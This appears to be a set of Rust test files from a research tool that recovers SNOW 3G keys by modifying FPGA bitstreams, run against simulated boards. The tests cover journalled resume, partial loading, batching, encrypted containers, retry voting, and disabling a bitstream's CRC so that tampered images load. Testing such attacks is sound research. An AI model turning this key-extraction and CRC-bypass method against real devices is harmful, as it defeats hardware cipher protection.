        assert_eq!(resumed.retries, truth.retries, "absorbed retries (cut at {budget})");
        assert_eq!(resumed.backoff_ms, truth.backoff_ms, "backoff trace (cut at {budget})");
    }
}

/// Journals a cut run for the refusal tests, against a caller-owned
/// board, and returns the cut session's outcome.
fn journal_a_cut(path: &Path) -> SessionOutcome {
    let cut_spec = spec(600, None, false);
    let board = flaky_board(&cut_spec);
    let golden = board.extract_bitstream();
    let io = SessionIo {
        journal: Some(path.to_path_buf()),
        resume: ResumePolicy::Never,
        telemetry: Telemetry::off(),
        cancel: CancelToken::new(),
        expected_key: Some(TEST_SET_1_KEY),
    };
    cut_spec.run_harnessed(&board, golden, &io).expect("cut run completes").outcome
}

#[test]
fn resume_refuses_a_different_golden_bitstream() {
    let path = journal_path("wrong-golden");
    let _ = std::fs::remove_file(&path);
    let outcome = journal_a_cut(&path);
    assert!(matches!(outcome, SessionOutcome::Exhausted { .. }), "cut, got {outcome:?}");

    // A different victim build produces a different golden bitstream;
    // resuming against it must be refused, not silently attempted.
    let board = flaky_board(&spec(BUDGET, None, false));
    let mut golden = board.extract_bitstream();
    let n = golden.as_bytes().len();
    golden.as_mut_bytes()[n / 2] ^= 0x40;
    let err = Attack::resume(&board, golden, AttackJournal::new(&path))
        .expect_err("mismatched golden refused");
    assert!(
        matches!(err, AttackError::Journal(JournalError::GoldenMismatch { .. })),
        "typed refusal, got: {err}"
    );
    let _ = std::fs::remove_file(&path);
}

#[test]
fn resume_refuses_a_trace_changing_config_override() {
    let path = journal_path("wrong-config");
    let _ = std::fs::remove_file(&path);
    let outcome = journal_a_cut(&path);
    assert!(matches!(outcome, SessionOutcome::Exhausted { .. }), "cut, got {outcome:?}");

    // Changing the vote count would diverge the physical trace from
    // the journalled prefix — refused. Raising the budget is fine.
    let board = flaky_board(&spec(BUDGET, None, false));
    let golden = board.extract_bitstream();
    let diverging = spec(BUDGET, None, false).resilience_config().with_votes(3);
    let err = Attack::resume_with(&board, golden, AttackJournal::new(&path), diverging)
        .expect_err("trace-changing override refused");
    assert!(
        matches!(err, AttackError::Journal(JournalError::ConfigMismatch { .. })),
        "typed refusal, got: {err}"
    );
    let _ = std::fs::remove_file(&path);
}
