//! Kill-and-resume: a journalled noisy attack cut at an arbitrary
//! point and resumed in a "new process" (fresh board object, state
//! restored from the journal) must recover the key AND produce
//! physical-attempt totals bit-identical to an uninterrupted run —
//! the journal replays the exact query trace, it does not merely
//! approximate it.

// These exercise (or ride on) the pre-0.7 free-form `Attack`
// constructors, kept working behind deprecation warnings; the
// replacement surface is `bitmod::fleet::SessionSpec`.
#![allow(deprecated)]

use bitmod::journal::{AttackJournal, JournalError};
use bitmod::resilient::ResilienceConfig;
use bitmod::{Attack, AttackError};
use fpga_sim::{FaultProfile, ImplementOptions, Snow3gBoard, UnreliableBoard};
use netlist::snow3g_circuit::Snow3gCircuitConfig;
use snow3g::vectors::{TEST_SET_1_IV, TEST_SET_1_KEY};
use std::path::PathBuf;

/// The fault seed every deterministic assertion in this file pins.
const SEED: u64 = 7;

/// Ample ceiling for a full run at seed 7 (needs ≈3,100 attempts).
const BUDGET: u64 = 8_000;

fn flaky_board(seed: u64) -> UnreliableBoard {
    let board = Snow3gBoard::build(
        Snow3gCircuitConfig::unprotected(TEST_SET_1_KEY, TEST_SET_1_IV),
        &ImplementOptions::default(),
    )
    .expect("board builds");
    UnreliableBoard::new(board, FaultProfile::flaky(seed))
}

fn noisy_config(seed: u64) -> ResilienceConfig {
    ResilienceConfig::noisy(seed ^ 0x5EED).with_budget(BUDGET)
}

fn journal_path(tag: &str) -> PathBuf {
    std::env::temp_dir().join(format!("bitmod-resume-{tag}-{}.journal", std::process::id()))
}

struct RunTotals {
    physical: usize,
    logical: u64,
    retries: u64,
    backoff_ms: u64,
}

/// The ground truth: the uninterrupted run's key and accounting.
fn uninterrupted() -> RunTotals {
    let board = flaky_board(SEED);
    let golden = board.extract_bitstream();
    let report =
        Attack::with_resilience(&board, golden, bitstream::FRAME_BYTES, noisy_config(SEED))
            .expect("prepares")
            .run()
            .expect("uninterrupted run recovers");
    assert_eq!(report.recovered.key, TEST_SET_1_KEY);
    RunTotals {
        physical: report.oracle_loads,
        logical: report.resilience.queries,
        retries: report.resilience.transient_errors,
        backoff_ms: report.resilience.backoff_ms,
    }
}

/// Cuts a journalled run at `budget` physical attempts ("the kill"),
/// then resumes it from the journal on a fresh board object ("the new
/// process") with the full budget.
fn kill_and_resume(tag: &str, budget: u64) -> RunTotals {
    let path = journal_path(tag);
    let _ = std::fs::remove_file(&path);

    let board = flaky_board(SEED);
    let golden = board.extract_bitstream();
    let config = noisy_config(SEED).with_budget(budget);
    let err = Attack::with_resilience(&board, golden, bitstream::FRAME_BYTES, config)
        .expect("prepares")
        .with_journal(AttackJournal::new(&path))
        .expect("journal attaches")
        .run()
        .expect_err("the cut budget must not cover the full attack");
    assert!(matches!(err, AttackError::Exhausted { .. }), "structured cut, got: {err}");
    assert!(path.exists(), "the journal survives the kill");

    let board = flaky_board(SEED);
    let golden = board.extract_bitstream();
    let raised =
        AttackJournal::new(&path).load().expect("journal loads").config.with_budget(BUDGET);
    let report = Attack::resume_with(&board, golden, AttackJournal::new(&path), raised)
        .expect("resumes")
        .run()
        .expect("resumed run recovers");

    assert_eq!(report.recovered.key, TEST_SET_1_KEY);
    assert_eq!(report.recovered.iv, TEST_SET_1_IV);
    assert!(!path.exists(), "the journal removes itself on success");
    RunTotals {
        physical: report.oracle_loads,
        logical: report.resilience.queries,
        retries: report.resilience.transient_errors,
        backoff_ms: report.resilience.backoff_ms,
    }
}

#[test]
fn a_killed_run_resumes_to_the_bit_identical_trace() {
    let truth = uninterrupted();
    // Cuts land in different phases: 600 stops in the key-independent
    // configuration, 1500 and 2500 later still — the trace must be
    // identical no matter where the kill fell.
    for (tag, budget) in [("early", 600), ("mid", 1_500), ("late", 2_500)] {
        let resumed = kill_and_resume(tag, budget);
        assert_eq!(resumed.physical, truth.physical, "physical attempts (cut at {budget})");
        assert_eq!(resumed.logical, truth.logical, "logical queries (cut at {budget})");
        assert_eq!(resumed.retries, truth.retries, "absorbed retries (cut at {budget})");
        assert_eq!(resumed.backoff_ms, truth.backoff_ms, "backoff trace (cut at {budget})");
    }
}

#[test]
fn resume_refuses_a_different_golden_bitstream() {
    let path = journal_path("wrong-golden");
    let _ = std::fs::remove_file(&path);

    let board = flaky_board(SEED);
    let golden = board.extract_bitstream();
    let config = noisy_config(SEED).with_budget(600);
    let _ = Attack::with_resilience(&board, golden, bitstream::FRAME_BYTES, config)
        .expect("prepares")
        .with_journal(AttackJournal::new(&path))
        .expect("journal attaches")
        .run();

    // A different victim build produces a different golden bitstream;
    // resuming against it must be refused, not silently attempted.
    let board = flaky_board(SEED);
    let mut golden = board.extract_bitstream();
    let n = golden.as_bytes().len();
    golden.as_mut_bytes()[n / 2] ^= 0x40;
    let err = Attack::resume(&board, golden, AttackJournal::new(&path))
        .expect_err("mismatched golden refused");
    assert!(
        matches!(err, AttackError::Journal(JournalError::GoldenMismatch { .. })),
        "typed refusal, got: {err}"
    );
    let _ = std::fs::remove_file(&path);
}

#[test]
fn resume_refuses_a_trace_changing_config_override() {
    let path = journal_path("wrong-config");
    let _ = std::fs::remove_file(&path);

    let board = flaky_board(SEED);
    let golden = board.extract_bitstream();
    let config = noisy_config(SEED).with_budget(600);
    let _ = Attack::with_resilience(&board, golden, bitstream::FRAME_BYTES, config)
        .expect("prepares")
        .with_journal(AttackJournal::new(&path))
        .expect("journal attaches")
        .run();

    // Changing the vote count would diverge the physical trace from
    // the journalled prefix — refused. Raising the budget is fine.
    let board = flaky_board(SEED);
    let golden = board.extract_bitstream();
    let diverging = noisy_config(SEED).with_votes(3);
    let err = Attack::resume_with(&board, golden, AttackJournal::new(&path), diverging)
        .expect_err("trace-changing override refused");
    assert!(
        matches!(err, AttackError::Journal(JournalError::ConfigMismatch { .. })),
        "typed refusal, got: {err}"
    );
    let _ = std::fs::remove_file(&path);
}
