//! Partial/full differential layer: the whole attack run with
//! `--partial` (frame-delta partial-reconfiguration loading) must be
//! behaviourally identical to the full-load run — same recovered key,
//! same logical query sequence with the same per-query keystreams,
//! same resilience totals, plaintext and encrypted, clean and noisy,
//! and bit-identical across a kill-and-resume. Delta loading is a
//! wire-traffic optimisation, never a behavioural fork.

use std::cell::RefCell;
use std::path::PathBuf;

use bitmod::campaign::CancelToken;
use bitmod::fleet::{ResumePolicy, SessionIo, SessionOutcome, SessionSpec};
use bitmod::oracle::{KeystreamOracle, OracleError};
use bitmod::telemetry::names;
use bitmod::Telemetry;
use bitstream::{Bitstream, PartialBitstream};
use fpga_sim::{ImplementOptions, Snow3gBoard};
use netlist::snow3g_circuit::Snow3gCircuitConfig;
use snow3g::vectors::{TEST_SET_1_IV, TEST_SET_1_KEY};

fn clean_board() -> Snow3gBoard {
    Snow3gBoard::build(
        Snow3gCircuitConfig::unprotected(TEST_SET_1_KEY, TEST_SET_1_IV),
        &ImplementOptions::default(),
    )
    .expect("board builds")
}

fn io(telemetry: Telemetry) -> SessionIo {
    SessionIo {
        journal: None,
        resume: ResumePolicy::Never,
        telemetry,
        cancel: CancelToken::new(),
        expected_key: Some(TEST_SET_1_KEY),
    }
}

/// A pass-through oracle that records every keystream the device
/// returns, in order — over the full *and* the partial port, so the
/// differential tests can compare per-query device traffic no matter
/// which wire format each logical query shipped in.
struct Recorder<'a> {
    inner: &'a dyn KeystreamOracle,
    log: RefCell<Vec<Vec<u32>>>,
}

impl<'a> Recorder<'a> {
    fn new(inner: &'a dyn KeystreamOracle) -> Self {
        Self { inner, log: RefCell::new(Vec::new()) }
    }
}

impl KeystreamOracle for Recorder<'_> {
    fn keystream(&self, bitstream: &Bitstream, words: usize) -> Result<Vec<u32>, OracleError> {
        let out = self.inner.keystream(bitstream, words);
        if let Ok(ks) = &out {
            self.log.borrow_mut().push(ks.clone());
        }
        out
    }

    fn keystream_batch(
        &self,
        bitstreams: &[Bitstream],
        words: usize,
    ) -> Vec<Result<Vec<u32>, OracleError>> {
        let out = self.inner.keystream_batch(bitstreams, words);
        for ks in out.iter().flatten() {
            self.log.borrow_mut().push(ks.clone());
        }
        out
    }

    fn partial_capable(&self) -> bool {
        self.inner.partial_capable()
    }

    fn keystream_partial(
        &self,
        partial: &PartialBitstream,
        words: usize,
    ) -> Result<Vec<u32>, OracleError> {
        let out = self.inner.keystream_partial(partial, words);
        if let Ok(ks) = &out {
            self.log.borrow_mut().push(ks.clone());
        }
        out
    }

    fn keystream_partial_batch_clean(
        &self,
        partials: &[PartialBitstream],
        words: usize,
    ) -> Vec<Result<Vec<u32>, OracleError>> {
        let out = self.inner.keystream_partial_batch_clean(partials, words);
        for ks in out.iter().flatten() {
            self.log.borrow_mut().push(ks.clone());
        }
        out
    }
}

#[test]
fn partial_and_full_runs_are_query_for_query_identical() {
    // Full-load arm.
    let board = clean_board();
    let golden = board.extract_bitstream();
    let full_recorder = Recorder::new(&board);
    let spec = SessionSpec::builder().build().expect("valid spec");
    let full = spec
        .run_harnessed(&full_recorder, golden.clone(), &io(Telemetry::off()))
        .expect("full-load session runs");

    // Delta-load arm, over the same physical device.
    let pr_recorder = Recorder::new(&board);
    let spec = SessionSpec::builder().partial(true).build().expect("valid spec");
    let telemetry = Telemetry::new();
    let partial = spec
        .run_harnessed(&pr_recorder, golden.clone(), &io(telemetry))
        .expect("delta-load session runs");

    let full_attack = full.attack.expect("full attack report");
    let pr_attack = partial.attack.expect("partial attack report");
    assert_eq!(full_attack.recovered.key, pr_attack.recovered.key);
    assert_eq!(pr_attack.recovered.key, TEST_SET_1_KEY);
    assert_eq!(pr_attack.recovered.iv, TEST_SET_1_IV);
    assert_eq!(
        full_attack.oracle_loads, pr_attack.oracle_loads,
        "delta loading must not change the 545-load accounting"
    );
    assert_eq!(full_attack.resilience, pr_attack.resilience);

    // The strongest form of the claim: the device answered the same
    // logical queries with the same keystreams, in the same order —
    // only the wire format of each load differed.
    let full_log = full_recorder.log.into_inner();
    let pr_log = pr_recorder.log.into_inner();
    assert_eq!(full_log.len(), pr_log.len(), "query counts diverged");
    assert_eq!(full_log, pr_log, "per-query keystreams diverged");

    // And the wire actually got cheaper: all but the first load went
    // partial, and total configuration traffic dropped by well over
    // the 10× floor the bench gate enforces.
    let loads = partial.metrics.counter(names::PR_PARTIAL_LOADS)
        + partial.metrics.counter(names::PR_FULL_LOADS);
    assert_eq!(partial.metrics.counter(names::PR_FULL_LOADS), 1, "only the first load is full");
    assert_eq!(loads, full_attack.oracle_loads as u64);
    let shipped = partial.metrics.counter(names::PR_BYTES_SHIPPED);
    let full_equivalent = loads * golden.len() as u64;
    assert!(
        shipped * 10 < full_equivalent,
        "bytes shipped {shipped} not <10% of full-load traffic {full_equivalent}"
    );
}

#[test]
fn batched_partial_runs_match_serial_full_runs() {
    let board = clean_board();
    let golden = board.extract_bitstream();
    let spec = SessionSpec::builder().build().expect("valid spec");
    let serial =
        spec.run_harnessed(&board, golden.clone(), &io(Telemetry::off())).expect("serial full run");

    let spec = SessionSpec::builder()
        .partial(true)
        .batch(fpga_sim::GANG_LANES)
        .build()
        .expect("valid spec");
    let batched =
        spec.run_harnessed(&board, golden, &io(Telemetry::off())).expect("batched partial run");

    let serial_attack = serial.attack.expect("serial attack report");
    let batched_attack = batched.attack.expect("batched attack report");
    assert_eq!(serial_attack.recovered.key, batched_attack.recovered.key);
    assert_eq!(batched_attack.recovered.key, TEST_SET_1_KEY);
    assert_eq!(
        serial_attack.oracle_loads, batched_attack.oracle_loads,
        "batched delta chains must keep the load accounting"
    );
}

#[test]
fn encrypted_partial_runs_match_plaintext_full_runs() {
    let board = clean_board();
    let golden = board.extract_bitstream();
    let spec = SessionSpec::builder().build().expect("valid spec");
    let plain =
        spec.run_harnessed(&board, golden.clone(), &io(Telemetry::off())).expect("plaintext run");

    // Encrypted *and* partial: every delta ships as a fresh sealed
    // container, and the run still matches the plaintext full-load
    // ground truth.
    let spec = SessionSpec::builder().encrypted(true).partial(true).build().expect("valid spec");
    let telemetry = Telemetry::new();
    let enc = spec.run_harnessed(&board, golden, &io(telemetry)).expect("encrypted partial run");

    let plain_attack = plain.attack.expect("plaintext attack report");
    let enc_attack = enc.attack.expect("encrypted attack report");
    assert_eq!(plain_attack.recovered.key, enc_attack.recovered.key);
    assert_eq!(enc_attack.recovered.key, TEST_SET_1_KEY);
    assert_eq!(plain_attack.oracle_loads, enc_attack.oracle_loads);
    assert_eq!(plain_attack.resilience, enc_attack.resilience);
    assert_eq!(
        enc.metrics.counter(names::ENCRYPTED_LOADS),
        enc_attack.oracle_loads as u64,
        "every load — full or delta — went through a sealed container"
    );
    assert!(enc.metrics.counter(names::PR_PARTIAL_LOADS) > 0, "the deltas actually shipped");
}

#[test]
fn noisy_partial_runs_match_noisy_full_runs() {
    // The fault stream is keyed by (seed, load index); a partial load
    // draws the identical plan a full load at the same index would,
    // so switching load modes must not shift a single fault.
    let full_spec = SessionSpec::builder().noisy(true).seed(7).build().expect("valid spec");
    let full = full_spec.run_local().expect("noisy full run");
    let SessionOutcome::Recovered(full_stats) = full.outcome else {
        panic!("noisy full run did not recover: {:?}", full.outcome);
    };

    let pr_spec =
        SessionSpec::builder().noisy(true).seed(7).partial(true).build().expect("valid spec");
    let partial = pr_spec.run_local().expect("noisy partial run");
    let SessionOutcome::Recovered(pr_stats) = partial.outcome else {
        panic!("noisy partial run did not recover: {:?}", partial.outcome);
    };

    assert_eq!(full_stats, pr_stats, "noisy totals must be bit-identical across load modes");
}

fn journal_path(tag: &str) -> PathBuf {
    std::env::temp_dir().join(format!("bitmod-partial-{tag}-{}.journal", std::process::id()))
}

#[test]
fn a_killed_partial_run_resumes_to_identical_totals() {
    // Ground truth: one uninterrupted noisy partial run.
    let spec =
        SessionSpec::builder().noisy(true).seed(11).partial(true).build().expect("valid spec");
    let truth = spec.run_local().expect("uninterrupted partial run");
    let SessionOutcome::Recovered(truth_stats) = truth.outcome else {
        panic!("uninterrupted run did not recover: {:?}", truth.outcome);
    };

    // The kill: same spec, journalled, budget-cut mid-attack.
    let path = journal_path("resume");
    let _ = std::fs::remove_file(&path);
    let cut = (truth_stats.physical / 3).max(1);
    let spec = SessionSpec::builder()
        .noisy(true)
        .seed(11)
        .partial(true)
        .budget(cut)
        .journal(&path)
        .build()
        .expect("valid spec");
    let report = spec.run_local().expect("cut run returns structured outcome");
    let SessionOutcome::Exhausted { summary, .. } = &report.outcome else {
        panic!("the cut budget must exhaust, got {:?}", report.outcome);
    };
    assert!(path.exists(), "the journal survives the kill: {summary}");

    // The new process: same spec, raised budget, resume from journal.
    // The resumed session starts with no on-device image (its first
    // load ships in full again) — which must not change a single
    // logical query or fault draw.
    let spec = SessionSpec::builder()
        .noisy(true)
        .seed(11)
        .partial(true)
        .budget(truth_stats.physical * 2)
        .journal(&path)
        .resume(true)
        .build()
        .expect("valid spec");
    let resumed = spec.run_local().expect("resumed run completes");
    let SessionOutcome::Recovered(resumed_stats) = resumed.outcome else {
        panic!("resumed run did not recover: {:?}", resumed.outcome);
    };
    assert_eq!(
        resumed_stats, truth_stats,
        "killed-and-resumed partial totals must replay the uninterrupted trace"
    );
    let attack = resumed.attack.expect("attack report");
    assert_eq!(attack.recovered.key, TEST_SET_1_KEY);
    assert!(!path.exists(), "the journal removes itself on success");
}
