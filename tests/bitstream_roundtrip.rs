//! Property tests over the bitstream container: build/parse
//! round-trips, LUT codec round-trips through a full file, CRC error
//! detection, the CRC-disable trick, and the secure (Fig. 1)
//! container.

use bitstream::secure::SecureBitstream;
use bitstream::{
    codec, Bitstream, BitstreamBuilder, FrameData, LutLocation, ParseBitstreamError,
    SubVectorOrder, FRAME_BYTES,
};
use boolfn::DualOutputInit;
use proptest::prelude::*;

fn arb_order() -> impl Strategy<Value = SubVectorOrder> {
    prop_oneof![Just(SubVectorOrder::SliceL), Just(SubVectorOrder::SliceM)]
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn build_parse_roundtrip(frames in 1usize..6, seed in any::<u64>()) {
        let mut data = FrameData::new(frames);
        let mut x = seed;
        for b in data.as_mut_bytes().iter_mut() {
            x = x.wrapping_mul(6364136223846793005).wrapping_add(1442695040888963407);
            *b = (x >> 56) as u8;
        }
        let bs = BitstreamBuilder::new(data.clone()).build();
        let cfg = bs.parse().expect("round-trips");
        prop_assert!(cfg.crc_checked);
        prop_assert_eq!(cfg.frames, data);
    }

    #[test]
    fn lut_codec_roundtrip_through_file(
        init in any::<u64>(),
        order in arb_order(),
        slot in 0usize..200,
    ) {
        let mut data = FrameData::new(8);
        let loc = LutLocation { l: slot * 2, d: FRAME_BYTES, order };
        codec::write_lut(data.as_mut_bytes(), loc, DualOutputInit::new(init));
        let bs = BitstreamBuilder::new(data).build();
        let cfg = bs.parse().expect("parses");
        let got = codec::read_lut(cfg.frames.as_bytes(), loc);
        prop_assert_eq!(got.init(), init);
    }

    #[test]
    fn any_payload_flip_is_detected(
        frames in 1usize..4,
        byte in any::<usize>(),
        bit in 0u8..8,
        seed in any::<u64>(),
    ) {
        let mut data = FrameData::new(frames);
        let mut x = seed;
        for b in data.as_mut_bytes().iter_mut() {
            x = x.wrapping_mul(6364136223846793005).wrapping_add(99);
            *b = (x >> 48) as u8;
        }
        let mut bs = BitstreamBuilder::new(data).build();
        let range = bs.fdri_data_range().expect("payload");
        let at = range.start + byte % range.len();
        bs.as_mut_bytes()[at] ^= 1 << bit;
        let mismatch = matches!(bs.parse(), Err(ParseBitstreamError::CrcMismatch { .. }));
        prop_assert!(mismatch);
        // The paper's fix: zero the CRC packet and the device accepts.
        bs.disable_crc();
        let cfg = bs.parse().expect("accepted without CRC");
        prop_assert!(!cfg.crc_checked);
    }

    #[test]
    fn recompute_crc_always_heals(
        byte in any::<usize>(),
        bit in 0u8..8,
    ) {
        let mut data = FrameData::new(3);
        for (i, b) in data.as_mut_bytes().iter_mut().enumerate() {
            *b = (i % 251) as u8;
        }
        let mut bs = BitstreamBuilder::new(data).build();
        let range = bs.fdri_data_range().expect("payload");
        let at = range.start + byte % range.len();
        bs.as_mut_bytes()[at] ^= 1 << bit;
        prop_assert!(bs.recompute_crc());
        let cfg = bs.parse().expect("parses after CRC repair");
        prop_assert!(cfg.crc_checked);
    }

    #[test]
    fn secure_container_roundtrip(
        len in 0usize..600,
        k_enc in any::<[u8; 32]>(),
        k_auth in any::<[u8; 32]>(),
        iv in any::<[u8; 16]>(),
    ) {
        let body: Vec<u8> = (0..len).map(|i| (i * 37 % 256) as u8).collect();
        let bs = Bitstream::from_bytes(body);
        let sealed = SecureBitstream::seal(&bs, &k_enc, &k_auth, iv);
        let opened = sealed.open(&k_enc).expect("opens with the right key");
        prop_assert_eq!(opened.bitstream, bs);
        prop_assert_eq!(opened.k_auth, k_auth);
    }

    #[test]
    fn secure_container_rejects_wrong_key(
        k_enc in any::<[u8; 32]>(),
        wrong in any::<[u8; 32]>(),
    ) {
        prop_assume!(k_enc != wrong);
        let bs = Bitstream::from_bytes(vec![0xAB; 64]);
        let sealed = SecureBitstream::seal(&bs, &k_enc, &[7; 32], [9; 16]);
        prop_assert!(sealed.open(&wrong).is_err());
    }

    #[test]
    fn secure_container_detects_tampering(
        flip in any::<usize>(),
        bit in 0u8..8,
    ) {
        let bs = Bitstream::from_bytes((0..256u32).map(|i| i as u8).collect());
        let k_enc = [3; 32];
        let mut sealed = SecureBitstream::seal(&bs, &k_enc, &[4; 32], [5; 16]);
        let at = flip % sealed.ciphertext.len();
        sealed.ciphertext[at] ^= 1 << bit;
        prop_assert!(sealed.open(&k_enc).is_err());
    }
}

#[test]
fn fdri_range_is_stable_under_rebuild() {
    let mut data = FrameData::new(4);
    data.as_mut_bytes()[100] = 0xEE;
    let a = BitstreamBuilder::new(data.clone()).build();
    let b = BitstreamBuilder::new(data).build();
    assert_eq!(a, b, "builder is deterministic");
    assert_eq!(a.fdri_data_range(), b.fdri_data_range());
}
