//! Adaptive-resilience invariants: even-vote majority ties break
//! deterministically (toward 0, independent of ballot order), and the
//! [`PolicyController`]'s event sequence is bit-identical whether a
//! run is traced or untraced, and whether it is killed mid-run and
//! resumed from a snapshot or never interrupted at all.
//!
//! These are the two properties the adaptive controller must not
//! compromise: determinism of the voted data path (ties must never
//! depend on iteration order or an RNG), and observational purity of
//! everything layered on top (telemetry and journalling must not
//! perturb a single policy decision).

use std::cell::RefCell;

use bitmod::oracle::{KeystreamOracle, OracleError};
use bitmod::resilient::{majority, PolicyEvent, ResilienceConfig, ResilientOracle, RetryPolicy};
use bitmod::Telemetry;
use bitstream::Bitstream;
use fpga_sim::{FaultProfile, ImplementOptions, Snow3gBoard, UnreliableBoard};
use netlist::snow3g_circuit::Snow3gCircuitConfig;
use proptest::prelude::*;
use snow3g::vectors::{TEST_SET_1_IV, TEST_SET_1_KEY};

/// An oracle that answers reads from a fixed cycle of ballots —
/// the minimal device for pinning the voting layer's arithmetic.
struct Cycling {
    ballots: Vec<Vec<u32>>,
    next: RefCell<usize>,
}

impl Cycling {
    fn new(ballots: Vec<Vec<u32>>) -> Self {
        Self { ballots, next: RefCell::new(0) }
    }
}

impl KeystreamOracle for Cycling {
    fn keystream(&self, _bitstream: &Bitstream, words: usize) -> Result<Vec<u32>, OracleError> {
        let mut next = self.next.borrow_mut();
        let ballot = &self.ballots[*next % self.ballots.len()];
        *next += 1;
        Ok(ballot.iter().copied().take(words).collect())
    }
}

fn noisy_board(profile: FaultProfile) -> UnreliableBoard {
    let board = Snow3gBoard::build(
        Snow3gCircuitConfig::unprotected(TEST_SET_1_KEY, TEST_SET_1_IV),
        &ImplementOptions::default(),
    )
    .expect("board builds");
    UnreliableBoard::new(board, profile)
}

/// A profile hot enough that the EWMA crosses the escalation
/// threshold within a few queries — the policy tests must exercise a
/// non-empty event history, not vacuously compare empty vectors.
fn hot_profile(seed: u64) -> FaultProfile {
    FaultProfile::flaky(seed).with_load_failure(0.35)
}

fn adaptive_config(seed: u64) -> ResilienceConfig {
    ResilienceConfig::noisy(seed).with_adaptive()
}

/// Drives `queries` logical queries and returns the policy's event
/// history plus the full snapshot (stats, clock, controller).
fn drive(oracle: &mut ResilientOracle<'_>, golden: &Bitstream, queries: usize) -> Vec<PolicyEvent> {
    for _ in 0..queries {
        // A RetriesExhausted on one query is part of the trace, not a
        // test failure — both runs under comparison hit it (or not)
        // identically; that identity is what the snapshot compare
        // pins.
        let _ = oracle.query(golden, 4);
    }
    oracle.snapshot().policy.events
}

#[test]
fn policy_events_are_identical_traced_and_untraced() {
    let trace =
        std::env::temp_dir().join(format!("bitmod-adaptive-trace-{}.ndjson", std::process::id()));
    let _ = std::fs::remove_file(&trace);

    let board = noisy_board(hot_profile(11));
    let golden = board.extract_bitstream();
    let mut untraced = ResilientOracle::new(&board, adaptive_config(11));
    let untraced_events = drive(&mut untraced, &golden, 40);
    let untraced_snap = untraced.snapshot();

    let board2 = noisy_board(hot_profile(11));
    let golden2 = board2.extract_bitstream();
    let mut traced = ResilientOracle::new(&board2, adaptive_config(11));
    traced.set_telemetry(Telemetry::to_path(&trace).expect("trace sink opens"));
    let traced_events = drive(&mut traced, &golden2, 40);
    let traced_snap = traced.snapshot();
    traced.telemetry().finish().expect("trace flushes");

    assert!(
        untraced_events.iter().any(PolicyEvent::is_escalation),
        "the hot profile must provoke at least one escalation; got {untraced_events:?}"
    );
    assert_eq!(traced_events, untraced_events, "recording perturbed the policy");
    assert_eq!(traced_snap, untraced_snap, "recording perturbed stats or the clock");

    let body = std::fs::read_to_string(&trace).expect("trace written");
    assert!(body.contains("policy"), "policy transitions appear in the trace: {body}");
    let _ = std::fs::remove_file(&trace);
}

#[test]
fn policy_events_are_identical_killed_and_resumed() {
    const SEED: u64 = 23;
    const HALF: usize = 20;

    // Ground truth: one uninterrupted run of 2×HALF queries.
    let board = noisy_board(hot_profile(SEED));
    let golden = board.extract_bitstream();
    let mut full = ResilientOracle::new(&board, adaptive_config(SEED));
    let full_events = drive(&mut full, &golden, 2 * HALF);
    let full_snap = full.snapshot();

    // The killed run: HALF queries, then snapshot both layers (the
    // resilience state and the board's fault-model position) exactly
    // as the attack journal does, and resume on a fresh board.
    let board_a = noisy_board(hot_profile(SEED));
    let golden_a = board_a.extract_bitstream();
    let mut first = ResilientOracle::new(&board_a, adaptive_config(SEED));
    let _ = drive(&mut first, &golden_a, HALF);
    let snap = first.snapshot();
    let device_state = board_a.state_snapshot().expect("fault model snapshots");
    drop(first);
    drop(board_a);

    let board_b = noisy_board(hot_profile(SEED));
    board_b.restore_state(&device_state).expect("fault model restores");
    let golden_b = board_b.extract_bitstream();
    let mut resumed = ResilientOracle::from_snapshot(&board_b, adaptive_config(SEED), &snap);
    let resumed_events = drive(&mut resumed, &golden_b, HALF);
    let resumed_snap = resumed.snapshot();

    assert!(
        full_events.iter().any(PolicyEvent::is_escalation),
        "the hot profile must provoke at least one escalation; got {full_events:?}"
    );
    assert_eq!(resumed_events, full_events, "the kill boundary leaked into the policy");
    assert_eq!(resumed_snap, full_snap, "the kill boundary leaked into stats or the clock");
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    /// Even-split bits resolve to 0 and the result is independent of
    /// ballot order — the pure voting function.
    #[test]
    fn majority_breaks_even_splits_toward_zero(a in any::<u32>(), b in any::<u32>()) {
        let even = vec![vec![a], vec![b], vec![a], vec![b]];
        prop_assert_eq!(majority(&even), vec![a & b]);
        let reordered = vec![vec![b], vec![a], vec![b], vec![a]];
        prop_assert_eq!(majority(&reordered), vec![a & b]);
    }

    /// The same tie-break through the full resilience layer: an
    /// even vote count over a deterministic device yields the same
    /// voted word on every run.
    #[test]
    fn even_vote_queries_are_deterministic(a in any::<u32>(), b in any::<u32>(), seed in any::<u64>()) {
        let config = ResilienceConfig::off().with_votes(4).with_retry(RetryPolicy::none());
        let golden = Bitstream::from_bytes(vec![0u8; 16]);
        let run = |seed_offset: u64| {
            let oracle = Cycling::new(vec![vec![a], vec![b], vec![a], vec![b]]);
            let mut resilient = ResilientOracle::new(
                &oracle,
                ResilienceConfig { seed: seed.wrapping_add(seed_offset), ..config },
            );
            resilient.query(&golden, 1).expect("scripted query succeeds")
        };
        // Deterministic, tie-broken to a & b, and independent of the
        // jitter seed — a tie must never consult randomness.
        let first = run(0);
        prop_assert_eq!(&first, &vec![a & b]);
        prop_assert_eq!(run(0), first.clone());
        prop_assert_eq!(run(1), first);
    }
}
