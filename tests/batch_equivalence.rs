//! Determinism pin for the batched oracle pipeline: a batched attack
//! must be observationally indistinguishable from a serial one — the
//! same recovered key, the same verified findings, the same load
//! accounting, and (against the fault-injecting board) the same fault
//! trace. Batching is allowed to change throughput and journal write
//! cadence, nothing else.

use bitmod::campaign::CancelToken;
use bitmod::fleet::{ResumePolicy, SessionIo, SessionSpec};
use bitmod::telemetry::Telemetry;
use bitmod::{Attack, AttackReport};
use fpga_sim::{ImplementOptions, Snow3gBoard, UnreliableBoard, GANG_LANES};
use netlist::snow3g_circuit::Snow3gCircuitConfig;
use snow3g::vectors::{TEST_SET_1_IV, TEST_SET_1_KEY};

fn build_board() -> Snow3gBoard {
    Snow3gBoard::build(
        Snow3gCircuitConfig::unprotected(TEST_SET_1_KEY, TEST_SET_1_IV),
        &ImplementOptions::default(),
    )
    .expect("board builds")
}

fn io(telemetry: Telemetry) -> SessionIo {
    SessionIo {
        journal: None,
        resume: ResumePolicy::Never,
        telemetry,
        cancel: CancelToken::new(),
        expected_key: Some(TEST_SET_1_KEY),
    }
}

/// Every attack outcome that must not depend on the batch width.
fn assert_equivalent(serial: &AttackReport, batched: &AttackReport) {
    assert_eq!(batched.recovered.key, serial.recovered.key);
